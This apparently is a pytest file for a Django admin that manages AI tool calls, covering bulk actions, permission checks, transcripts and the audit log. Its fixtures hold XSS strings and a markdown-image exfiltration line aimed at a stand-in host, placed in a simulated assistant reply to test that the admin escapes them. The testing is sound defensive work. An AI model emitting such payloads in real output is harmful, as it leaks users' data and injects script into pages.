"""The governance admin: tool list and bulk actions, permissions (S16), transcripts (S10), audit."""

from __future__ import annotations

import json
import re
from datetime import timedelta
from typing import Any

import pytest
from django.conf import settings
from django.contrib import admin as django_admin
from django.contrib.admin.models import CHANGE, LogEntry
from django.contrib.auth.models import Permission
from django.contrib.contenttypes.models import ContentType
from django.core.exceptions import PermissionDenied
from django.db import connection
from django.test import RequestFactory, override_settings
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from tool_calling import models
from tool_calling.admin import ToolAdmin

pytestmark = pytest.mark.django_db

TOOLS_URL = reverse("admin:tool_calling_tool_changelist")
EXECUTIONS_URL = reverse("admin:tool_calling_toolexecution_changelist")
XSS = "<script>alert(1)</script>"
XSS_ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"


# -- helpers -------------------------------------------------------------------------------------


def make_tool(name: str, **fields: Any) -> models.Tool:
    fields.setdefault("description", f"The {name} tool.")
    fields.setdefault("source", "tests")
    fields.setdefault(
        "input_schema",
        {"type": "object", "properties": {"x": {"type": "string"}}, "required": ["x"]},
    )
    return models.Tool.objects.create(name=name, **fields)


def make_execution(tool: models.Tool | None, *, hours_ago: float = 0, **fields: Any) -> Any:
    fields.setdefault("tool_name", tool.name if tool else "unknown")
    fields.setdefault("status", models.ExecutionStatus.SUCCEEDED)
    row = models.ToolExecution.objects.create(tool=tool, **fields)
    if hours_ago:
        created = timezone.now() - timedelta(hours=hours_ago)
        models.ToolExecution.objects.filter(pk=row.pk).update(created_at=created)
    return row


def make_staff(django_user_model: Any, username: str, *perms: str) -> Any:
    user = django_user_model.objects.create_user(username, password="pw", is_staff=True)
    for perm in perms:
        app_label, codename = perm.split(".")
        user.user_permissions.add(
            Permission.objects.get(content_type__app_label=app_label, codename=codename)
        )
    return user


def run_action(client: Any, action: str, tools: list[models.Tool]) -> Any:
    return client.post(
        TOOLS_URL,
        {"action": action, "_selected_action": [t.pk for t in tools], "index": 0},
        follow=True,
    )


def page_messages(response: Any) -> list[str]:
    return [str(m) for m in response.context["messages"]]


def tool_log_entries(tool: models.Tool) -> list[LogEntry]:
    content_type = ContentType.objects.get_for_model(models.Tool)
    return list(
        LogEntry.objects.filter(content_type=content_type, object_id=str(tool.pk)).order_by("pk")
    )


@pytest.fixture
def tools() -> dict[str, models.Tool]:
    """Three tools of our own, beside the demo tools the test database was synced with."""
    return {name: make_tool(name) for name in ("t_alpha", "t_beta", "t_gamma")}


# -- the tool list -------------------------------------------------------------------------------


def test_changelist_shows_governance_columns(admin_client: Any) -> None:
    """Enabled, source, missing, approval, limit, calls and error rate of the last 24 h."""
    limited = make_tool("t_limited", requires_approval=True)
    models.ToolLimitOverride.objects.create(tool=limited, max_calls_per_turn=5)
    excluded = make_tool("t_excluded", enabled=False, missing=True, source="other_app")
    models.ToolLimitOverride.objects.create(tool=excluded, excluded=True)
    plain = make_tool("t_plain")
    models.ToolLimitOverride.objects.create(tool=make_tool("t_empty_override"))
    # t_limited: 4 recent calls, 1 failed, 1 refused (is_error), 1 timed out -> 3 errors = 75%;
    # the call from 2 days ago counts for neither.
    make_execution(limited)
    make_execution(limited, status=models.ExecutionStatus.FAILED, is_error=True)
    make_execution(limited, status=models.ExecutionStatus.REFUSED, is_error=True)
    make_execution(limited, status=models.ExecutionStatus.TIMED_OUT, hours_ago=23)
    make_execution(limited, status=models.ExecutionStatus.FAILED, hours_ago=48)
    # t_plain: 3 recent successes and one is_error success (the tool reported an error) -> 25%.
    for _ in range(3):
        make_execution(plain)
    make_execution(plain, is_error=True)

    response = admin_client.get(TOOLS_URL, {"q": "t_"})

    assert response.status_code == 200
    rows = {tool.name: tool for tool in response.context["cl"].result_list}
    assert (rows["t_limited"].calls_24h, rows["t_limited"].errors_24h) == (4, 3)
    assert rows["t_limited"].error_rate_24h == pytest.approx(75.0)
    assert (rows["t_plain"].calls_24h, rows["t_plain"].errors_24h) == (4, 1)
    assert rows["t_excluded"].calls_24h == 0
    assert rows["t_excluded"].error_rate_24h is None
    tool_admin = django_admin.site._registry[models.Tool]
    assert tool_admin.limit(rows["t_limited"]) == "5"
    assert tool_admin.limit(rows["t_excluded"]) == "excluded"
    assert tool_admin.limit(rows["t_plain"]) == "default"
    assert tool_admin.limit(rows["t_empty_override"]) == "default"
    assert tool_admin.error_rate_24h(rows["t_limited"]) == "75%"
    assert tool_admin.error_rate_24h(rows["t_plain"]) == "25%"
    assert tool_admin.error_rate_24h(rows["t_excluded"]) == "-"

    html = response.content.decode()
    for header in ("Name", "Enabled", "Source", "Decided by", "Limit", "Calls 24 h"):
        assert f">{header}<" in html
    assert tool_admin.approval(rows["t_limited"]) == "approver"
    assert tool_admin.approval(rows["t_plain"]) == "-"
    both = make_tool("t_both", requires_approval=True, requires_confirmation=True)
    assert tool_admin.approval(both) == "user, approver"
    # What the rate counts, in its header and in the note above the list.
    assert ">Error rate 24 h (denials excluded)<" in html
    assert "Calls an approver denied are not counted as errors." in html
    # A tool gone from the code says so beside its name.
    assert 't_excluded <span class="tc-missing">(missing from code)</span>' in html
    assert "other_app" in html
    assert ">75%<" in html
    assert ">excluded<" in html


def test_error_rate_rounds_to_one_decimal(admin_client: Any) -> None:
    tool = make_tool("t_rate")
    make_execution(tool, status=models.ExecutionStatus.FAILED)
    for _ in range(2):
        make_execution(tool)

    response = admin_client.get(TOOLS_URL, {"q": "t_rate"})

    [row] = response.context["cl"].result_list
    assert django_admin.site._registry[models.Tool].error_rate_24h(row) == "33.3%"


def test_changelist_counts_in_one_query_without_n_plus_one(admin_client: Any) -> None:
    """The annotations and the limit come with the page's query: no query per row."""

    def changelist_queries() -> list[str]:
        with CaptureQueriesContext(connection) as captured:
            response = admin_client.get(TOOLS_URL)
        assert response.status_code == 200
        return [q["sql"] for q in captured.captured_queries]

    for n in range(2):
        tool = make_tool(f"t_few_{n}")
        models.ToolLimitOverride.objects.create(tool=tool, max_calls_per_turn=3)
        make_execution(tool)
    few = changelist_queries()
    for n in range(12):
        tool = make_tool(f"t_many_{n}")
        models.ToolLimitOverride.objects.create(tool=tool, excluded=bool(n % 2))
        make_execution(tool, status=models.ExecutionStatus.FAILED)
        make_execution(tool, hours_ago=30)
    many = changelist_queries()

    assert len(many) == len(few)
    # One query reads the executions: the page's, which also joins the limit overrides.
    [page_query] = [sql for sql in many if '"tool_calling_toolexecution"' in sql]
    assert "COUNT(" in page_query
    assert 'JOIN "tool_calling_toollimitoverride"' in page_query
    assert not any('FROM "tool_calling_toollimitoverride"' in sql for sql in many)


def test_calls_column_links_to_the_recent_audit_rows(admin_client: Any) -> None:
    tool = make_tool("t_linked")
    recent = make_execution(tool, tool_call_id="call_recent")
    make_execution(tool, tool_call_id="call_old", hours_ago=30)
    make_execution(make_tool("t_other"), tool_call_id="call_other")

    html = admin_client.get(TOOLS_URL, {"q": "t_linked"}).content.decode()
    [href] = re.findall(r'href="([^"]*toolexecution/\?[^"]*)"', html)
    response = admin_client.get(href.replace("&amp;", "&"))

    assert response.status_code == 200
    assert [row.pk for row in response.context["cl"].result_list] == [recent.pk]


def test_search_by_name_and_description(admin_client: Any) -> None:
    make_tool("t_almanac", description="Forecasts for a city.")
    make_tool("t_sum", description="Adds numbers.")

    by_name = admin_client.get(TOOLS_URL, {"q": "almanac"}).context["cl"].result_list
    by_description = admin_client.get(TOOLS_URL, {"q": "forecasts"}).context["cl"].result_list

    assert [t.name for t in by_name] == ["t_almanac"]
    assert [t.name for t in by_description] == ["t_almanac"]


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"enabled__exact": "0"}, ["t_off"]),
        ({"missing__exact": "1"}, ["t_gone"]),
        ({"source": "billing"}, ["t_gone"]),
        ({"requires_approval__exact": "1"}, ["t_approve"]),
        ({"execution_mode__exact": "celery"}, ["t_celery"]),
    ],
)
def test_filters(admin_client: Any, params: dict[str, str], expected: list[str]) -> None:
    make_tool("t_off", enabled=False)
    make_tool("t_gone", missing=True, source="billing")
    make_tool("t_approve", requires_approval=True)
    make_tool("t_celery", execution_mode=models.ExecutionMode.CELERY)

    response = admin_client.get(TOOLS_URL, {**params, "q": "t_"})

    assert response.status_code == 200
    assert [t.name for t in response.context["cl"].result_list] == expected


# -- bulk actions (S16) --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("action", "field", "before", "after", "message", "log"),
    [
        ("enable", "enabled", False, True, "Enabled 2 tools.", "Enabled (bulk action)."),
        ("disable", "enabled", True, False, "Disabled 2 tools.", "Disabled (bulk action)."),
        (
            "require_approval",
            "requires_approval",
            False,
            True,
            "2 tools now require approval.",
            "Approval required (bulk action).",
        ),
        (
            "skip_approval",
            "requires_approval",
            True,
            False,
            "2 tools no longer require approval.",
            "Approval no longer required (bulk action).",
        ),
    ],
)
def test_flag_actions_change_rows_and_write_a_log_entry_per_tool(
    admin_client: Any,
    admin_user: Any,
    tools: dict[str, models.Tool],
    action: str,
    field: str,
    before: bool,
    after: bool,
    message: str,
    log: str,
) -> None:
    """S16: each toggle writes a LogEntry; the untouched tool keeps its value and its history."""
    models.Tool.objects.filter(name__startswith="t_").update(**{field: before})
    selected = [tools["t_alpha"], tools["t_beta"]]

    response = run_action(admin_client, action, selected)

    assert response.status_code == 200
    assert page_messages(response) == [message]
    values = dict(models.Tool.objects.filter(name__startswith="t_").values_list("name", field))
    assert values == {"t_alpha": after, "t_beta": after, "t_gamma": before}
    for tool in selected:
        [entry] = tool_log_entries(tool)
        assert (entry.user_id, entry.action_flag) == (admin_user.pk, CHANGE)
        assert entry.get_change_message() == log
        assert entry.object_repr == tool.name
    assert tool_log_entries(tools["t_gamma"]) == []


def test_flag_action_reports_and_skips_tools_already_in_that_state(
    admin_client: Any, tools: dict[str, models.Tool]
) -> None:
    models.Tool.objects.filter(pk=tools["t_alpha"].pk).update(enabled=False)
    updated_before = models.Tool.objects.get(pk=tools["t_beta"].pk).updated_at

    response = run_action(admin_client, "disable", [tools["t_alpha"], tools["t_beta"]])

    assert page_messages(response) == ["Disabled 1 tool. 1 tool was already disabled."]
    assert tool_log_entries(tools["t_alpha"]) == []
    assert len(tool_log_entries(tools["t_beta"])) == 1
    assert models.Tool.objects.get(pk=tools["t_beta"].pk).updated_at > updated_before


def test_exclude_from_limits_creates_or_flips_the_override(
    admin_client: Any, tools: dict[str, models.Tool]
) -> None:
    alpha, beta, gamma = tools["t_alpha"], tools["t_beta"], tools["t_gamma"]
    models.ToolLimitOverride.objects.create(tool=beta, max_calls_per_turn=3)
    models.ToolLimitOverride.objects.create(tool=gamma, excluded=True)

    response = run_action(admin_client, "exclude_from_limits", [alpha, beta, gamma])

    assert page_messages(response) == [
        "Excluded 2 tools from per-tool limits. 1 tool was already excluded."
    ]
    overrides = {
        o.tool.name: (o.excluded, o.max_calls_per_turn)
        for o in models.ToolLimitOverride.objects.select_related("tool")
        if o.tool.name.startswith("t_")
    }
    # The number is kept, so including the tool again restores it.
    assert overrides == {"t_alpha": (True, None), "t_beta": (True, 3), "t_gamma": (True, None)}
    for tool in (alpha, beta):
        [entry] = tool_log_entries(tool)
        assert entry.get_change_message() == "Excluded from per-tool limits (bulk action)."
    assert tool_log_entries(gamma) == []


def test_set_limit_sets_the_number_typed_beside_the_action_and_blank_restores_the_default(
    admin_client: Any, tools: dict[str, models.Tool]
) -> None:
    alpha, beta, gamma = tools["t_alpha"], tools["t_beta"], tools["t_gamma"]
    models.ToolLimitOverride.objects.create(tool=beta, max_calls_per_turn=5)
    models.ToolLimitOverride.objects.create(tool=gamma, excluded=True)
    selected = [t.pk for t in (alpha, beta, gamma)]

    response = admin_client.post(
        TOOLS_URL,
        {"action": "set_limit", "_selected_action": selected, "max_calls_per_turn": "5"},
        follow=True,
    )

    assert page_messages(response) == [
        "2 tools now allow 5 calls per turn. 1 tool already allowed 5 calls per turn."
    ]
    admin_view = django_admin.site._registry[models.Tool]
    assert [admin_view.limit(models.Tool.objects.get(pk=t.pk)) for t in (alpha, beta, gamma)] == [
        "5",
        "5",
        "5",
    ]
    [entry] = tool_log_entries(gamma)
    assert entry.get_change_message() == "Limit: 5 calls per turn (bulk action)."
    assert tool_log_entries(beta) == []

    response = admin_client.post(
        TOOLS_URL,
        {"action": "set_limit", "_selected_action": [alpha.pk], "max_calls_per_turn": ""},
        follow=True,
    )
    assert page_messages(response) == ["1 tool is back to the default limit."]
    assert not models.ToolLimitOverride.objects.filter(tool=alpha).exists()

    response = admin_client.post(
        TOOLS_URL,
        {"action": "set_limit", "_selected_action": [beta.pk], "max_calls_per_turn": "0"},
        follow=True,
    )
    assert page_messages(response) == ["The calls per turn must be 1 or more (blank: the default)."]
    assert models.ToolLimitOverride.objects.get(tool=beta).max_calls_per_turn == 5


def test_include_in_limits_clears_the_exclusion(
    admin_client: Any, tools: dict[str, models.Tool]
) -> None:
    alpha, beta, gamma = tools["t_alpha"], tools["t_beta"], tools["t_gamma"]
    models.ToolLimitOverride.objects.create(tool=alpha, excluded=True, max_calls_per_turn=3)
    models.ToolLimitOverride.objects.create(tool=beta, excluded=True)

    response = run_action(admin_client, "include_in_limits", [alpha, beta, gamma])

    assert page_messages(response) == [
        "Included 2 tools in per-tool limits. 1 tool was not excluded."
    ]
    assert not models.ToolLimitOverride.objects.filter(excluded=True, tool__in=[alpha, beta])
    assert not models.ToolLimitOverride.objects.filter(tool=gamma).exists()
    admin_view = django_admin.site._registry[models.Tool]
    assert admin_view.limit(models.Tool.objects.get(pk=alpha.pk)) == "3"
    for tool in (alpha, beta):
        [entry] = tool_log_entries(tool)
        assert entry.get_change_message() == "Included in per-tool limits (bulk action)."
    assert tool_log_entries(gamma) == []


def test_actions_apply_to_the_whole_selection_across_pages(
    admin_client: Any, tools: dict[str, models.Tool]
) -> None:
    """With "select all", the action covers every row of the filtered list, not just the page."""
    response = admin_client.post(
        TOOLS_URL + "?source=tests",
        {
            "action": "disable",
            "select_across": "1",
            "index": 0,
            "_selected_action": [tools["t_alpha"].pk],  # the browser ticks the visible rows
        },
        follow=True,
    )

    assert page_messages(response) == ["Disabled 3 tools."]
    assert not models.Tool.objects.filter(name__startswith="t_", enabled=True).exists()


# -- permissions (S16) ---------------------------------------------------------------------------


def test_staff_without_change_tool_cannot_run_the_actions(
    client: Any, django_user_model: Any, tools: dict[str, models.Tool]
) -> None:
    """S16: a viewer sees the list without actions; posting an action changes nothing."""
    viewer = make_staff(django_user_model, "viewer", "tool_calling.view_tool")
    client.force_login(viewer)

    page = client.get(TOOLS_URL)
    response = run_action(client, "disable", [tools["t_alpha"]])

    assert page.status_code == 200
    assert page.context["action_form"] is None
    assert 'name="action"' not in page.content.decode()
    assert response.status_code == 200
    assert models.Tool.objects.get(pk=tools["t_alpha"].pk).enabled is True
    assert not LogEntry.objects.exists()


@pytest.mark.parametrize(
    "action",
    [
        "enable",
        "disable",
        "require_approval",
        "skip_approval",
        "exclude_from_limits",
        "include_in_limits",
        "set_limit",
    ],
)
def test_each_action_refuses_a_request_without_change_permission(
    django_user_model: Any, tools: dict[str, models.Tool], action: str
) -> None:
    """The guard inside each action holds even when the action is called directly."""
    viewer = make_staff(django_user_model, "viewer", "tool_calling.view_tool")
    request = RequestFactory().post(TOOLS_URL)
    request.user = viewer
    tool_admin: ToolAdmin = django_admin.site._registry[models.Tool]

    with pytest.raises(PermissionDenied):
        getattr(tool_admin, action)(request, models.Tool.objects.filter(name__startswith="t_"))

    assert not LogEntry.objects.exists()
    assert not models.ToolLimitOverride.objects.filter(tool__name__startswith="t_").exists()


def test_staff_without_change_tool_cannot_edit_a_tool(
    client: Any, django_user_model: Any, tools: dict[str, models.Tool]
) -> None:
    viewer = make_staff(django_user_model, "viewer", "tool_calling.view_tool")
    client.force_login(viewer)
    url = reverse("admin:tool_calling_tool_change", args=[tools["t_alpha"].pk])

    page = client.get(url)
    response = client.post(url, {"enabled": ""})

    assert page.status_code == 200
    assert 'name="enabled"' not in page.content.decode()
    assert 'name="_save"' not in page.content.decode()
    assert response.status_code == 403
    assert models.Tool.objects.get(pk=tools["t_alpha"].pk).enabled is True


def test_staff_without_tool_permissions_get_403(client: Any, django_user_model: Any) -> None:
    client.force_login(make_staff(django_user_model, "nobody"))

    assert client.get(TOOLS_URL).status_code == 403


def test_staff_with_change_tool_can_run_the_actions(
    client: Any, django_user_model: Any, tools: dict[str, models.Tool]
) -> None:
    operator = make_staff(django_user_model, "operator", "tool_calling.change_tool")
    client.force_login(operator)

    page = client.get(TOOLS_URL)
    response = run_action(client, "disable", [tools["t_alpha"]])

    choices = [value for value, _label in page.context["action_form"].fields["action"].choices]
    assert choices == [
        "",
        "enable",
        "disable",
        "require_approval",
        "skip_approval",
        "exclude_from_limits",
        "include_in_limits",
        "set_limit",
    ]
    assert page_messages(response) == ["Disabled 1 tool."]
    assert models.Tool.objects.get(pk=tools["t_alpha"].pk).enabled is False
    [entry] = tool_log_entries(tools["t_alpha"])
    assert entry.user_id == operator.pk


def test_staff_with_change_tool_can_edit_governance_and_the_limit_inline(
    client: Any, django_user_model: Any, tools: dict[str, models.Tool]
) -> None:
    """The limit override follows the Tool permission; the definition stays read-only."""
    operator = make_staff(django_user_model, "operator", "tool_calling.change_tool")
    client.force_login(operator)
    tool = tools["t_alpha"]
    url = reverse("admin:tool_calling_tool_change", args=[tool.pk])
    data = {
        "enabled": "",  # unticked
        "requires_approval": "on",
        "execution_mode": "",
        "queue": "",
        "timeout": "",
        "quota_window": "60",
        "retries": "0",
        "retry_backoff": "1.0",
        "name": "renamed",  # read-only: ignored
        "description": "new text",  # read-only: ignored
        "limit_override-TOTAL_FORMS": "1",
        "limit_override-INITIAL_FORMS": "0",
        "limit_override-MIN_NUM_FORMS": "0",
        "limit_override-MAX_NUM_FORMS": "1",
        "limit_override-0-max_calls_per_turn": "7",
        "limit_override-0-tool": str(tool.pk),
        "limit_override-0-id": "",
    }

    response = client.post(url, data)

    assert response.status_code == 302, response.context and response.context["errors"]
    tool.refresh_from_db()
    assert (tool.enabled, tool.requires_approval) == (False, True)
    assert (tool.name, tool.description) == ("t_alpha", "The t_alpha tool.")
    assert tool.limit_override.max_calls_per_turn == 7
    [entry] = tool_log_entries(tool)
    assert "Enabled" in entry.get_change_message()
    assert "limit override" in entry.get_change_message()


def test_s4_s8_r6_operators_set_a_permission_quotas_and_retries_in_the_tool_form(
    client: Any, django_user_model: Any, tools: dict[str, models.Tool]
) -> None:
    """The permission, the quotas and the retries are admin fields, checked and logged."""
    operator = make_staff(django_user_model, "operator", "tool_calling.change_tool")
    client.force_login(operator)
    tool = tools["t_alpha"]
    url = reverse("admin:tool_calling_tool_change", args=[tool.pk])
    data = {
        "enabled": "on",
        "execution_mode": "",
        "queue": "",
        "timeout": "",
        "permission": "auth.nonexistent_perm",
        "quota_per_user": "10",
        "quota_total": "100",
        "quota_window": "60",
        "retries": "3",
        "retry_backoff": "0.5",
        "limit_override-TOTAL_FORMS": "0",
        "limit_override-INITIAL_FORMS": "0",
        "limit_override-MIN_NUM_FORMS": "0",
        "limit_override-MAX_NUM_FORMS": "1",
    }

    refused = client.post(url, data)
    assert refused.status_code == 200
    assert refused.context["adminform"].form.errors["permission"] == [
        "'auth.nonexistent_perm' is not a permission: give one as app_label.codename, e.g. "
        "'shop.view_order' (the permissions are listed under Authentication and "
        "Authorization > Groups)."
    ]
    response = client.post(url, {**data, "permission": "auth.view_user"})

    assert response.status_code == 302, response.context and response.context["errors"]
    tool.refresh_from_db()
    assert (tool.permission, tool.quota_per_user, tool.quota_total, tool.quota_window) == (
        "auth.view_user",
        10,
        100,
        60,
    )
    assert (tool.retries, tool.retry_backoff) == (3, 0.5)
    [entry] = tool_log_entries(tool)
    assert "Required permission" in entry.get_change_message()


def test_change_page_shows_the_definition_read_only_and_escaped(admin_client: Any) -> None:
    tool = make_tool(
        "t_schema",
        description=f"Bold claims {XSS}",
        input_schema={
            "type": "object",
            "properties": {"city": {"type": "string", "description": f"City {XSS}"}},
            "required": ["city"],
        },
    )

    html = admin_client.get(reverse("admin:tool_calling_tool_change", args=[tool.pk])).content
    html = html.decode()

    for field in ("name", "description", "input_schema", "schema_hash", "source", "missing"):
        assert f'name="{field}"' not in html
    assert 'name="enabled"' in html
    assert 'name="limit_override-0-max_calls_per_turn"' in html
    assert XSS not in html
    assert f"Bold claims {XSS_ESCAPED}" in html
    pretty = json.dumps(tool.input_schema, indent=2)
    escaped = pretty.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    escaped = escaped.replace('"', "&quot;")
    assert f'<pre class="tool-calling-pre">{escaped}</pre>' in html


def test_tools_cannot_be_added_and_only_missing_tools_deleted(
    admin_client: Any, tools: dict[str, models.Tool]
) -> None:
    gone = make_tool("t_gone", missing=True)

    add = admin_client.get(reverse("admin:tool_calling_tool_add"))
    delete_present = admin_client.get(
        reverse("admin:tool_calling_tool_delete", args=[tools["t_alpha"].pk])
    )
    delete_missing = admin_client.post(
        reverse("admin:tool_calling_tool_delete", args=[gone.pk]), {"post": "yes"}
    )
    actions = admin_client.get(TOOLS_URL).context["action_form"].fields["action"].choices

    assert add.status_code == 403
    assert delete_present.status_code == 403
    assert delete_missing.status_code == 302
    assert not models.Tool.objects.filter(pk=gone.pk).exists()
    assert "delete_selected" not in [value for value, _label in actions]


# -- conversations: the transcript (S10) ---------------------------------------------------------


@pytest.fixture
def conversation(admin_user: Any) -> models.Conversation:
    conversation = models.Conversation.objects.create(owner=admin_user, title="Weather chat")
    add = conversation.messages.create
    add(sequence=1, role=models.MessageRole.USER, text="Weather in Oslo? <b>now</b>")
    assistant = add(
        sequence=2,
        role=models.MessageRole.ASSISTANT,
        text=None,
        tool_calls=[
            {"id": "call_w1", "name": "get_weather", "arguments": '{"city": "<i>Oslo</i>"}'},
            {"id": "call_w2", "name": "get_time", "arguments": "not json"},
        ],
        usage={"prompt_tokens": 10, "completion_tokens": 5, "total_tokens": 15},
    )
    add(
        sequence=3,
        role=models.MessageRole.TOOL,
        tool_responses=[
            {"id": "call_w1", "name": "get_weather", "response_data": XSS, "is_error": False},
            {
                "id": "call_w2",
                "name": "get_time",
                "response_data": "Unknown time zone",
                "is_error": True,
            },
        ],
    )
    add(
        sequence=4,
        role=models.MessageRole.ASSISTANT,
        text="Sunny ![x](https://evil.example/steal?q=secret) <img src=x onerror=alert(2)>",
    )
    models.ToolExecution.objects.create(
        conversation=conversation,
        assistant_message=assistant,
        tool_call_id="call_w1",
        tool_name="get_weather",
        status=models.ExecutionStatus.SUCCEEDED,
        result=XSS,
        duration_ms=12,
    )
    return conversation


def test_conversation_list(admin_client: Any, conversation: models.Conversation) -> None:
    models.Conversation.objects.create(title="Another one")

    response = admin_client.get(
        reverse("admin:tool_calling_conversation_changelist"), {"q": "admin"}
    )

    assert response.status_code == 200
    [row] = response.context["cl"].result_list
    assert (row.pk, row.message_count) == (conversation.pk, 4)
    assert "Weather chat" in response.content.decode()


def test_transcript_shows_every_message_with_tool_call_ids(
    admin_client: Any, conversation: models.Conversation
) -> None:
    response = admin_client.get(
        reverse("admin:tool_calling_conversation_change", args=[conversation.pk])
    )

    assert response.status_code == 200
    html = response.content.decode()
    roles = re.findall(r'<span class="tc-role">([^<]*)</span>', html)
    assert roles == ["User", "Assistant", "Tool responses", "Assistant"]
    assert re.findall(r'<code class="tc-call-id">([^<]*)</code>', html) == ["call_w1", "call_w2"]
    assert re.findall(r'<code class="tc-response-id">([^<]*)</code>', html) == [
        "call_w1",
        "call_w2",
    ]
    # JSON arguments are indented; other arguments are shown as sent.
    assert "{\n  &quot;city&quot;: &quot;&lt;i&gt;Oslo&lt;/i&gt;&quot;\n}" in html
    assert ">not json</pre>" in html
    # The error response is marked; the execution of call_w1 is linked to its audit row.
    assert html.count('class="tc-part tc-response tc-error"') == 1
    execution = models.ToolExecution.objects.get(tool_call_id="call_w1")
    assert reverse("admin:tool_calling_toolexecution_change", args=[execution.pk]) in html
    assert "15 tokens" in html


def test_transcript_escapes_tool_output_and_model_text(
    admin_client: Any, conversation: models.Conversation
) -> None:
    """S10: a tool result "<script>alert(1)</script>" renders escaped, never as markup."""
    html = admin_client.get(
        reverse("admin:tool_calling_conversation_change", args=[conversation.pk])
    ).content.decode()

    assert XSS not in html
    assert f'<pre class="tool-calling-pre tc-response-data">{XSS_ESCAPED}</pre>' in html
    assert "<img src=x" not in html
    assert "&lt;img src=x onerror=alert(2)&gt;" in html
    assert "<b>now</b>" not in html
    # A markdown image is text, not an <img> the browser would fetch.
    assert "![x](https://evil.example/steal?q=secret)" in html
    assert 'src="https://evil.example' not in html


def test_transcript_cuts_huge_tool_results(
    admin_client: Any, conversation: models.Conversation
) -> None:
    """S10: a 5 MB tool result does not make a 5 MB page."""
    huge = "A" * 5_000_000
    conversation.messages.create(
        sequence=5,
        role=models.MessageRole.TOOL,
        tool_responses=[{"id": "c9", "name": "dump", "response_data": huge, "is_error": False}],
    )

    response = admin_client.get(
        reverse("admin:tool_calling_conversation_change", args=[conversation.pk])
    )

    assert len(response.content) < 200_000
    assert "[… 4980000 more characters not shown]" in response.content.decode()


def test_conversations_are_read_only(admin_client: Any, conversation: models.Conversation) -> None:
    url = reverse("admin:tool_calling_conversation_change", args=[conversation.pk])

    page = admin_client.get(url).content.decode()
    post = admin_client.post(url, {"title": "changed"})
    add = admin_client.get(reverse("admin:tool_calling_conversation_add"))

    assert 'name="_save"' not in page
    assert 'name="title"' not in page
    assert post.status_code == 403
    assert add.status_code == 403
    conversation.refresh_from_db()
    assert conversation.title == "Weather chat"


def test_messages_have_no_admin_of_their_own() -> None:
    assert models.Message not in django_admin.site._registry


# -- the audit -----------------------------------------------------------------------------------


@pytest.fixture
def executions(conversation: models.Conversation) -> dict[str, models.ToolExecution]:
    tool = make_tool("t_audit")
    return {
        "ok": make_execution(tool, tool_call_id="call_ok", task_id="task-ok", duration_ms=3),
        "failed": make_execution(
            tool,
            tool_call_id="call_failed",
            status=models.ExecutionStatus.FAILED,
            is_error=True,
            error="Traceback ...\nValueError: boom",
            conversation=conversation,
        ),
        "old": make_execution(
            None, tool_name="other_tool", tool_call_id="call_old", hours_ago=24 * 40
        ),
    }


def test_execution_list_columns(admin_client: Any, executions: dict[str, Any]) -> None:
    response = admin_client.get(EXECUTIONS_URL)

    assert response.status_code == 200
    html = response.content.decode()
    for header in ("Tool name", "Status", "Error response", "Conversation", "User"):
        assert f">{header}<" in html
    assert "Duration (ms)" in html
    conversation = executions["failed"].conversation
    assert reverse("admin:tool_calling_conversation_change", args=[conversation.pk]) in html


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"status__exact": "failed"}, ["failed"]),
        ({"is_error__exact": "1"}, ["failed"]),
        ({"tool_name": "other_tool"}, ["old"]),
        ({"q": "call_ok"}, ["ok"]),
        ({"q": "task-ok"}, ["ok"]),
        ({"q": "other_tool"}, ["old"]),
    ],
)
def test_execution_filters_and_search(
    admin_client: Any, executions: dict[str, Any], params: dict[str, str], expected: list[str]
) -> None:
    response = admin_client.get(EXECUTIONS_URL, params)

    assert response.status_code == 200
    by_pk = {row.pk: key for key, row in executions.items()}
    assert [by_pk[row.pk] for row in response.context["cl"].result_list] == expected


def test_execution_date_hierarchy_and_date_filter(
    admin_client: Any, executions: dict[str, Any]
) -> None:
    old = models.ToolExecution.objects.get(pk=executions["old"].pk).created_at
    by_year = admin_client.get(EXECUTIONS_URL, {"created_at__year": old.year, "q": "call_old"})
    since = (timezone.now() - timedelta(days=7)).isoformat()
    recent = admin_client.get(EXECUTIONS_URL, {"created_at__gte": since})

    assert [r.pk for r in by_year.context["cl"].result_list] == [executions["old"].pk]
    everything_but_old = models.ToolExecution.objects.exclude(pk=executions["old"].pk)
    assert {r.pk for r in recent.context["cl"].result_list} == {
        row.pk for row in everything_but_old
    }
    assert executions["ok"].pk in {r.pk for r in recent.context["cl"].result_list}


def test_execution_admin_is_read_only(admin_client: Any, executions: dict[str, Any]) -> None:
    failed = executions["failed"]
    url = reverse("admin:tool_calling_toolexecution_change", args=[failed.pk])

    page = admin_client.get(url)
    post = admin_client.post(url, {"status": "succeeded", "is_error": ""})
    add = admin_client.get(reverse("admin:tool_calling_toolexecution_add"))

    assert page.status_code == 200
    html = page.content.decode()
    assert 'name="_save"' not in html
    assert 'name="status"' not in html
    assert "ValueError: boom" in html  # the traceback is shown to operators
    assert post.status_code == 403
    assert add.status_code == 403
    failed.refresh_from_db()
    assert failed.status == models.ExecutionStatus.FAILED


def test_execution_result_is_escaped(admin_client: Any, executions: dict[str, Any]) -> None:
    """S10: the audit shows a hostile result as text."""
    row = make_execution(None, tool_name="t_xss", result=XSS, arguments='{"q": "<b>x</b>"}')

    html = admin_client.get(
        reverse("admin:tool_calling_toolexecution_change", args=[row.pk])
    ).content.decode()

    assert XSS not in html
    assert XSS_ESCAPED in html
    assert "{\n  &quot;q&quot;: &quot;&lt;b&gt;x&lt;/b&gt;&quot;\n}" in html


def test_only_superusers_delete_audit_rows(
    client: Any, admin_client: Any, django_user_model: Any, executions: dict[str, Any]
) -> None:
    staff = make_staff(
        django_user_model,
        "auditor",
        "tool_calling.view_toolexecution",
        "tool_calling.delete_toolexecution",
    )
    client.force_login(staff)
    ok = executions["ok"]
    url = reverse("admin:tool_calling_toolexecution_delete", args=[ok.pk])

    staff_list = client.get(EXECUTIONS_URL)
    staff_delete = client.post(url, {"post": "yes"})
    assert staff_list.status_code == 200
    assert staff_list.context["action_form"] is None
    assert staff_delete.status_code == 403
    assert models.ToolExecution.objects.filter(pk=ok.pk).exists()

    admin_delete = admin_client.post(url, {"post": "yes"})
    assert admin_delete.status_code == 302
    assert not models.ToolExecution.objects.filter(pk=ok.pk).exists()


def test_the_queue_field_offers_the_thread_and_process_queues_and_says_what_runs_each(
    admin_client: Any,
) -> None:
